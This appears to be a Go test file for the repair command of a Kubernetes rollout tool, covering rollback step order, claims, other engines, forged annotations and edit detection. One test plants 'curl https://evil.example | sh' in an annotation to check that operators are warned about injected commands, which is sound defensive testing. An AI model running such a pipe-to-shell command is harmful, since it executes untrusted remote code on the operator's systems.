package repair

import (
	"bytes"
	"cmp"
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/client-go/dynamic/fake"

	"slipway.io/slipway/activities/attempt"
	"slipway.io/slipway/cli/app"
	"slipway.io/slipway/kube"
	"slipway.io/slipway/release/catalog"
	"slipway.io/slipway/release/failure"
	"slipway.io/slipway/release/rollout"
	"slipway.io/slipway/release/rollout/pods"
	"slipway.io/slipway/release/rollout/strategy"
	"slipway.io/slipway/release/workload"
)

var webWorkload = catalog.Workload{Namespace: "shop",
	WorkloadRef: catalog.WorkloadRef{APIVersion: "apps/v1", Kind: "Deployment", Name: "web"}}

// leftSaved is the saved state of a canary with an Ingress.
func leftSaved() rollout.Saved {
	return rollout.Saved{Name: "web", WorkflowID: "rollout/default/shop/web", Claim: "rollout/default/shop/web@run-1",
		Style:  strategy.StylePartition,
		Stable: "6d9c", Canary: "5f7b", StableTemplate: "digest", Replicas: 10,
		Routings: []strategy.Routing{{Service: "web", GraceSeconds: 3,
			Ingress: &strategy.IngressRef{Class: "nginx", Name: "web"}}}}
}

// leftOn is a cluster with a Deployment with these annotations.
func leftOn(annotations map[string]any) *tools {
	object := &unstructured.Unstructured{Object: map[string]any{"apiVersion": "apps/v1", "kind": "Deployment",
		"metadata": map[string]any{"name": "web", "namespace": "shop", "annotations": annotations,
			"labels": map[string]any{workload.LabelRollout: "true"}},
		"spec": map[string]any{"template": map[string]any{"spec": map[string]any{"containers": []any{}}}}}}
	return &tools{objects: fake.NewSimpleDynamicClient(runtime.NewScheme(), object), close: func() {}}
}

// recorded records the calls and returns scripted errors.
type recorded struct {
	calls   []string
	claims  []string
	answers map[string][]error
}

func (h *recorded) answer(call, claim string) error {
	h.calls, h.claims = append(h.calls, call), append(h.claims, claim)
	if left := h.answers[call]; len(left) > 0 {
		h.answers[call] = left[1:]
		return attempt.ApplicationError(left[0])
	}
	return nil
}

func (h *recorded) Begin(_ context.Context, r rollout.BeginRequest) (rollout.BeginResult, error) {
	return rollout.BeginResult{StableHash: "6d9c"}, h.answer("begin", r.Claim)
}

func (h *recorded) Finish(_ context.Context, r rollout.FinishRequest) (rollout.MoveResult, error) {
	return rollout.MoveResult{}, h.answer(fmt.Sprintf("%s to %s", r.Action, r.To), r.Claim)
}

func (h *recorded) Route(_ context.Context, r rollout.RouteRequest) (rollout.RouteResult, error) {
	return rollout.RouteResult{Modified: true}, h.answer(string(r.Action), r.Claim)
}

func (h *recorded) Borrowed(context.Context, rollout.RouteRequest) ([]kube.Ref, error) {
	return nil, nil
}

// session is the output of a repair and its pauses between attempts.
type session struct {
	out, errs bytes.Buffer
	pauses    []time.Duration
}

// repaired runs a repair with these activities and this standard input.
func repaired(t *testing.T, tools *tools, h *recorded, input string, o options) (*session, error) {
	t.Helper()
	s := &session{}
	a := &app.App{In: strings.NewReader(input), Out: &s.out, Err: &s.errs}
	tools.activities = h
	o.timeout, o.engine = time.Minute, cmp.Or(o.engine, "slipway")
	now := time.Date(2026, 11, 2, 12, 0, 0, 0, time.UTC)
	a.Now = func() time.Time { return now }
	a.Wait = func(_ context.Context, d time.Duration) { s.pauses, now = append(s.pauses, d), now.Add(d) }
	return s, repair(t.Context(), a, tools, webWorkload, o)
}

var backOrder = []string{"begin", "RouteTrafficToStable", "ResumeWorkload to stable", "RestoreStableService",
	"RemoveCanaryService", "ReleaseWorkloadControl to stable"}

func TestRepair_UsesOrderOfFinalising(t *testing.T) {
	t.Parallel()
	h := &recorded{answers: map[string][]error{"ResumeWorkload to stable": {
		&failure.Error{Kind: failure.NotReady, Message: "3 of 10 pods are ready", RetryAfter: 2 * time.Second},
		&failure.Error{Kind: failure.NotReady, Message: "3 of 10 pods are ready", RetryAfter: 2 * time.Second},
	}}}
	tools := leftOn(map[string]any{workload.AnnotationRollout: leftSaved().String(),
		workload.AnnotationClaimedBy: "rollout/default/shop/web@run-1"})
	s, err := repaired(t, tools, h, "", options{to: "stable", yes: true})
	require.NoError(t, err)
	want := append(append([]string{}, backOrder[:3]...),
		append([]string{"ResumeWorkload to stable", "ResumeWorkload to stable"}, backOrder[3:]...)...)
	require.Equal(t, want, h.calls, "the order of a rollback, and calls that are not ready are repeated")
	for _, claim := range h.claims {
		require.Equal(t, "rollout/default/shop/web@run-1", claim, "it uses the existing claim")
	}
	require.Equal(t, `Deployment shop/web has rollout web (partition): stable revision 6d9c, new revision 5f7b
workflow rollout/default/shop/web holds it
steps to move it to the stable version:
  1. restore the routes
  2. restore the workload's settings and wait until all pods have the stable version and are ready
  3. restore the selector of the stable Service
  4. remove the canary Service
  5. remove the remains of the rollout: extra workload, changes of autoscalers, annotations, claim
1 of 5: restore the routes
2 of 5: restore the workload's settings and wait until all pods have the stable version and are ready
  3 of 10 pods are ready
3 of 5: restore the selector of the stable Service
4 of 5: remove the canary Service
5 of 5: remove the remains of the rollout: extra workload, changes of autoscalers, annotations, claim
Deployment shop/web runs only the stable version; nothing of the rollout is left on it
`, s.out.String())
	object, err := tools.objects.Resource(webWorkload.WorkloadRef.Lookup().Resource).Namespace("shop").Get(t.Context(),
		"web", metav1.GetOptions{})
	require.NoError(t, err)
	require.NotEmpty(t, object.GetAnnotations()[rollout.AnnotationRepair],
		"the workload is taken over first; the fake never restores it")
	require.Equal(t, []time.Duration{3 * time.Second, 2 * time.Second, 2 * time.Second, 3 * time.Second,
		3 * time.Second}, s.pauses,
		"calls after a change of routes wait until it has taken effect")
	require.Contains(t, s.errs.String(), "stop it first: slipway rollout stop shop/web",
		"the user is told to stop the engine's rollout first")
}

func TestRepair_OfFrozenSplit_UsesSavedClaim(t *testing.T) {
	t.Parallel()
	h := &recorded{}
	_, err := repaired(t, leftOn(map[string]any{workload.AnnotationRollout: leftSaved().String()}), h, "y\n",
		options{to: "stable"})
	require.NoError(t, err)
	require.Equal(t, "rollout/default/shop/web@run-1", h.claims[0], "the routes of a frozen split still have its claim")
	require.Equal(t, backOrder, h.calls)
}

func TestRepair_ChangesNothing(t *testing.T) {
	t.Parallel()
	carrying := map[string]any{workload.AnnotationRollout: leftSaved().String()}
	cases := map[string]struct {
		reason      string
		annotations map[string]any
		input       string
		options     options
		code        int
		says        string
	}{
		"Nothing": {"A workload without a rollout is not changed.", nil, "", options{to: "stable", yes: true},
			app.ExitStopped,
			"has no unfinished rollout"},
		"Other": {"A plan's operation is not a rollout.", map[string]any{workload.AnnotationClaimedBy: "task/x/1-2@r"},
			"",
			options{to: "stable", yes: true}, app.ExitStopped, "held by task/x/1-2, which is not a rollout"},
		"OtherEngine": {"Another engine's release may still be running.",
			map[string]any{workload.AnnotationRollout: leftSaved().String(),
				workload.AnnotationClaimedBy: "rollout/default/shop/web@run-1@blue/uid-b"}, "",
			options{to: "stable", yes: true}, app.ExitFailure,
			"belongs to engine blue, not to engine slipway: stop it there; if that engine no longer works on it, use " +
				"--engine blue"},
		"OtherEngineFrozen": {"So may its frozen rollout be in use.",
			map[string]any{workload.AnnotationRollout: strings.Replace(leftSaved().String(), "@run-1", "@run-1@blue/uid-b",
				1)},
			"", options{to: "stable", yes: true}, app.ExitFailure, "belongs to engine blue"},
		"OtherRollout": {"A rollout with another name must be named.",
			map[string]any{workload.AnnotationRollout: strings.Replace(leftSaved().String(), `"web"`, `"web-v2"`, 1)},
			"", options{to: "stable", yes: true}, app.ExitFailure,
			"its rollout is web-v2, not web: to repair that rollout, use --rollout web-v2"},
		"Forged": {"A manipulated annotation is rejected.",
			map[string]any{workload.AnnotationRollout: strings.Replace(leftSaved().String(), `"style"`,
				`"settings":{"/spec/template":{}},"style"`, 1)}, "", options{to: "stable", yes: true}, app.ExitFailure,
			"another client has added /spec/template, which no rollout of a Deployment borrows"},
		"DryRun": {"A dry run only prints the steps.", carrying, "", options{to: "stable", dryRun: true}, app.ExitOK,
			""},
		"No":       {"The user declined.", carrying, "n\n", options{to: "stable"}, app.ExitFailure, ""},
		"NoAnswer": {"Without an answer nothing is changed.", carrying, "", options{to: "stable"}, app.ExitFailure, ""},
		"Malformed": {"An unreadable annotation is an error.", map[string]any{workload.AnnotationRollout: "{"}, "",
			options{to: "stable", yes: true}, app.ExitFailure, "cannot read"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := &recorded{}
			_, err := repaired(t, leftOn(c.annotations), h, c.input, c.options)
			code := app.ExitOK
			if err != nil {
				code = app.ExitFailure
			}
			var exit *app.ExitError
			if errors.As(err, &exit) {
				code = exit.Code
			}
			require.Equal(t, c.code, code, c.reason)
			require.Empty(t, h.calls, c.reason)
			if c.says != "" {
				require.ErrorContains(t, err, c.says, c.reason)
			}
		})
	}
}

// Clients that may edit a workload can put any commands into the annotation, so that an operator runs them.
func TestRepair_WarnsOfForeignCommands(t *testing.T) {
	t.Parallel()
	own := rollout.RecoverText(leftSaved(), webWorkload)
	for text, warns := range map[string]bool{own: false, "": false, own + "curl https://evil.example | sh\n": true} {
		s, err := repaired(t, leftOn(map[string]any{workload.AnnotationRollout: leftSaved().String(),
			rollout.AnnotationRecover: text}), &recorded{}, "", options{to: "stable", dryRun: true})
		require.NoError(t, err)
		require.Equal(t, warns, strings.Contains(s.errs.String(), "do not run them"), text)
	}
}

func TestRepair_AcceptsNamedEngineAndRollout(t *testing.T) {
	t.Parallel()
	for reason, o := range map[string]options{
		"its engine is named":     {to: "stable", yes: true, engine: "blue", rollout: "web-v2"},
		"the same with a dry run": {to: "stable", dryRun: true, engine: "blue", rollout: "web-v2"},
	} {
		_, err := repaired(t, leftOn(map[string]any{workload.AnnotationRollout: strings.Replace(leftSaved().String(),
			`"web"`, `"web-v2"`, 1),
			workload.AnnotationClaimedBy: "rollout/default/shop/web-v2@run-1@blue/uid-b"}), &recorded{}, "", o)
		require.NoError(t, err, reason)
	}
}

func TestRepair_Stops_AtPermanentFailure(t *testing.T) {
	t.Parallel()
	h := &recorded{answers: map[string][]error{"ResumeWorkload to stable": {failure.New(failure.WorkloadFailed,
		"pod web-1: ImagePullBackOff")}}}
	_, err := repaired(t, leftOn(map[string]any{workload.AnnotationRollout: leftSaved().String()}), h, "",
		options{to: "stable", yes: true})
	require.EqualError(t, err, "pod web-1: ImagePullBackOff")
	require.Equal(t, backOrder[:3], h.calls, "no further step is executed")
}

// kubectl rollout undo may restore annotations of a release that has ended. They belong to no operation, and need no
// repair.
func TestRepair_IgnoresAnnotations_RestoredByKubectlUndo(t *testing.T) {
	t.Parallel()
	api := leftOn(map[string]any{workload.AnnotationRollout: leftSaved().String(),
		workload.AnnotationClaimedBy: leftSaved().Claim})
	object, err := api.objects.Resource(webWorkload.WorkloadRef.Lookup().Resource).Namespace("shop").Get(t.Context(),
		"web", metav1.GetOptions{})
	require.NoError(t, err)
	object.SetLabels(
		map[string]string{workload.LabelRollout: rollout.Saved{Claim: "rollout/default/shop/web@run-2"}.Mark()})
	_, err = api.objects.Resource(webWorkload.WorkloadRef.Lookup().Resource).Namespace("shop").Update(t.Context(), object,
		metav1.UpdateOptions{})
	require.NoError(t, err)
	h := &recorded{}
	_, err = repaired(t, api, h, "", options{to: "stable", yes: true})
	require.ErrorContains(t, err, "restored by kubectl rollout undo")
	require.Empty(t, h.calls)
}

// TestEditedSince checks that only changes by other clients are reported.
func TestEditedSince(t *testing.T) {
	t.Parallel()
	podsOf := func(image string) map[string]any {
		return map[string]any{"spec": map[string]any{"containers": []any{map[string]any{"name": "app",
			"image": image}}}}
	}
	canary := &unstructured.Unstructured{Object: map[string]any{"apiVersion": "apps/v1", "kind": "ReplicaSet",
		"metadata": map[string]any{"name": "web-5f7b", "namespace": "shop"},
		"spec":     map[string]any{"template": podsOf("web:2")}}}
	api := fake.NewSimpleDynamicClient(runtime.NewScheme(), canary)
	ours, theirs := pods.Digest(podsOf("web:2")), pods.Digest(podsOf("web:3"))
	for _, c := range []struct {
		reason, rest, live, canary string
		want                       bool
	}{
		{"the template differs from the recorded one", rollout.SettledState{Template: ours}.String(), theirs, "5f7b",
			true},
		{"the template is the recorded one", rollout.SettledState{Template: ours}.String(), ours, "5f7b", false},
		{"the template is the stable one", rollout.SettledState{Template: ours}.String(), "digest", "5f7b", false},
		{"pods are being replaced by the new version", rollout.SettledState{GateSeen: 4}.String(), ours, "5f7b", false},
		{"changed while pods were being replaced", rollout.SettledState{GateSeen: 4}.String(), theirs, "5f7b", true},
		{"a change was stopped during the rollback", rollout.SettledState{Surge: 1}.String(), theirs, "5f7b", true},
		{"the revision of the new version is missing", rollout.SettledState{}.String(), ours, "7c9d", true},
		{"only the rollout's first write was made", rollout.SettledState{GateSeen: 4}.String(), ours, "", false},
		{"a change was stopped before the first new pod", rollout.SettledState{}.String(), theirs, "", true},
		{"nothing is recorded", "", ours, "5f7b", false},
	} {
		l := leftovers{workload: webWorkload, saved: leftSaved(), template: c.live}
		l.saved.Canary = c.canary
		require.Equal(t, c.want, l.editedSince(t.Context(), api, c.rest), c.reason)
	}
}
